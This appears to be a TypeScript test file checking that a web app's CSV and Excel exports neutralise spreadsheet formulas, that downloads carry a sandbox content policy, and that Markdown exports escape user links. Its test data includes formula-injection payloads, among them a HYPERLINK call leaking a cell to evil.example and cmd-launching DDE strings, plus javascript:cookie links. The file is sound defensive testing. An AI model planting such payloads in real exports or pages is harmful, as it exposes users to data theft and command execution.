import ExcelJS from 'exceljs';
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvStream, csvText, neutralizeCell } from '../../src/server/exports/csv.js';
import { markdownText } from '../../src/server/exports/markdown-text.js';
import type { Agent } from '../helpers/agent.js';
import { postFile } from '../helpers/multipart.js';
import type { TestApp } from '../helpers/test-app.js';
import { innovationBody, publishThroughApi } from '../catalog/catalog-helpers.js';
import { buildInnovation } from '../helpers/factories-catalog.js';
import { agencyTeam, completeAnswers, openCall, proposalsTestApp } from '../proposals/setup.js';

/**
 * What users download (issue #12 items 3, 7, 8): every CSV goes through one writer that
 * neutralises spreadsheet formulas, downloads keep their sandbox CSP, and user text in the
 * Markdown case file can never become a link or an image.
 */
let t: TestApp;
let ministry: Agent;

beforeAll(async () => ({ t, admin: ministry } = await proposalsTestApp()));
afterAll(() => t.close());

const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '  =1+1', ' \t@x', '＝1+1', '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'];
const HARMLESS = ['Dinas Kesehatan', 'a=b', 'e-mail', '', "'=sudah dinetralkan"];

describe('the one CSV writer', () => {
  it('prefixes every cell a spreadsheet would run as a formula with an apostrophe, and nothing else', () => {
    for (const f of FORMULAS) expect(neutralizeCell(f), JSON.stringify(f)).toBe(`'${f}`);
    for (const h of HARMLESS) expect(neutralizeCell(h), JSON.stringify(h)).toBe(h);
  });

  it('applies it in the whole-table and the streaming form alike, keeping numbers as numbers', async () => {
    const rows = FORMULAS.map((f, i) => [f, -i, 'teks; dengan titik koma']);
    const text = csvText([['a', 'b', 'c'], ...rows]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const parsedText = parse(text, { bom: true, relax_quotes: true }) as string[][];
    const stream = csvStream(
      [
        { key: 'a', header: 'a' },
        { key: 'b', header: 'b' },
        { key: 'c', header: 'c' },
      ],
      Readable.from(rows.map(([a, b, c]) => ({ a, b, c }))),
    );
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(Buffer.from(chunk));
    const parsedStream = parse(Buffer.concat(chunks), { bom: true }) as string[][];
    for (const parsed of [parsedText, parsedStream]) {
      expect(parsed.slice(1).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
      expect(parsed.slice(1).map((r) => r[1])).toEqual(FORMULAS.map((_f, i) => String(-i)));
      expect(parsed[1]![2]).toBe('teks; dengan titik koma');
    }
    expect(text).toContain('"teks; dengan titik koma"');
  });

  it('is the only place that writes CSV: no other server file imports csv-stringify', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (file.endsWith('.ts') && /from 'csv-stringify/.test(fs.readFileSync(file, 'utf8'))) offenders.push(file);
      }
    };
    walk(path.resolve('src/server'));
    expect(offenders).toEqual([path.resolve('src/server/exports/csv.ts')]);
  });

  it("neutralises the ministry's proposal export: titles, agency names and check reasons", async () => {
    const call = await openCall(ministry);
    const team = await agencyTeam(t);
    const agencyName = '@SUM(1+1)*cmd|"/C calc"!A0';
    await t.db.updateTable('agencies').set({ name: agencyName }).where('id', '=', team.agency.id).execute();
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")';
    const innovation = await buildInnovation(t.db, { agencyId: team.agency.id, title });
    const p = (
      await team.operator.post('/api/proposals', { competitionId: call.id, groupId: call.groups[0].id, categoryId: call.categories[0].id, innovationId: innovation.id })
    ).json();
    await team.operator.patch(`/api/proposals/${p.id}`, { baseVersion: p.version, answers: completeAnswers(call) });
    expect((await team.coordinator.post(`/api/proposals/${p.id}/submit`)).statusCode).toBe(200);
    const reason = '-2+3+cmd|"/C calc"!A0 alasan gagal';
    expect((await ministry.post(`/api/admin-checks/${p.id}/decision`, { decision: 'failed', reason })).statusCode).toBe(200);

    const response = await ministry.get(`/api/competitions/${call.id}/export?report=proposals&format=csv`);
    expect(response.statusCode).toBe(200);
    const [header, row] = parse(response.rawPayload, { bom: true }) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('judul')).toBe(`'${title}`);
    expect(cell('instansi')).toBe(`'${agencyName}`);
    expect(cell('alasan')).toBe(`'${reason}`);

    // The same export as a workbook: the same cells, the same neutralisation.
    const xlsx = await ministry.get(`/api/competitions/${call.id}/export?report=proposals&format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const sheetCell = (name: string) => sheet.getRow(2).getCell(headers.indexOf(name)).value;
    expect(sheetCell('judul')).toBe(`'${title}`);
    expect(sheetCell('instansi')).toBe(`'${agencyName}`);
    expect(sheetCell('alasan')).toBe(`'${reason}`);
  });
});

describe('downloads keep their sandbox CSP', () => {
  let id: string;
  let operator: Agent;
  beforeAll(async () => {
    const team = await agencyTeam(t);
    operator = team.operator;
    id = await publishThroughApi(team.operator, team.coordinator, await innovationBody(t.db, { title: 'Layanan Unduhan Berkas Aman' }));
  });

  const sandboxed = (csp: unknown) => {
    const directives = String(csp)
      .split(';')
      .map((d) => d.trim());
    expect(directives).toContain("default-src 'none'");
    expect(directives).toContain('sandbox');
    expect(directives).toContain("frame-ancestors 'none'");
  };

  it('on the case file (Markdown and PDF), the import template and a stored document', async () => {
    for (const url of [`/api/innovations/${id}/case?format=md`, `/api/innovations/${id}/case?format=pdf`, '/api/innovations/import/template?format=csv']) {
      const response = await operator.get(url);
      expect(response.statusCode, url).toBe(200);
      sandboxed(response.headers['content-security-policy']);
    }
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
    const uploaded = await postFile(operator, `/api/innovations/${id}/documents`, 'foto.png', png, { contentType: 'image/png' });
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const document = uploaded.json().documents.at(-1);
    const download = await operator.get(`/api/innovations/${id}/documents/${document.id}`);
    expect(download.statusCode).toBe(200);
    sandboxed(download.headers['content-security-policy']);
  });

  it('while pages and API answers keep the app CSP', async () => {
    const csp = String((await operator.get('/api/health')).headers['content-security-policy']);
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain('sandbox');
  });
});

describe('user text in the Markdown case file', () => {
  const LINK = '[Klik di sini](javascript:alert(document.cookie))';
  const IMAGE = '![logo](https://evil.example/pelacak.png)';
  const AUTOLINK = '<https://evil.example/masuk>';

  it('escapes every link and image form so none can be rendered', () => {
    for (const text of [LINK, IMAGE, AUTOLINK, '[ref]: javascript:alert(1)', 'kunjungi www.evil.example atau https://evil.example', 'surat ke korban@evil.example']) {
      const md = markdownText(text);
      // No unescaped bracket, parenthesis or `!`, no raw `<`, no bare `scheme:`/`www.`/`@`.
      expect(md, text).not.toMatch(/(^|[^\\])[[\]()!<>]/);
      expect(md, text).not.toMatch(/[A-Za-z]:(?=\S)|(^|[^\\])@|www\.(?!\\)/i);
    }
    expect(markdownText('# Judul\n1. satu\n- dua\n===')).toBe('\\# Judul\n1\\. satu\n\\- dua\n\\===');
    expect(markdownText('Waktu tunggu: 3 jam, *turun* 50%')).toBe('Waktu tunggu: 3 jam, \\*turun\\* 50%');
  });

  it('in the downloaded case, a title and narrative with link and image tricks stay text', async () => {
    const team = await agencyTeam(t);
    const id = await publishThroughApi(
      team.operator,
      team.coordinator,
      await innovationBody(t.db, {
        title: `Inovasi ${LINK}`,
        summary: `Ringkasan dengan gambar ${IMAGE} dan tautan ${AUTOLINK} yang cukup panjang.`,
        results: `Hasil ${LINK}\n[x]: javascript:alert(1)`,
      }),
    );
    const md = await t.agent().get(`/api/innovations/${id}/case?format=md`);
    expect(md.statusCode).toBe(200);
    expect(md.body).not.toContain('](');
    expect(md.body).not.toContain('![');
    expect(md.body).not.toContain('<https');
    expect(md.body).not.toContain('javascript:');
    expect(md.body).toContain('# Inovasi \\[Klik di sini\\]\\(javascript\\:alert\\(document.cookie\\)\\)');
  });
});
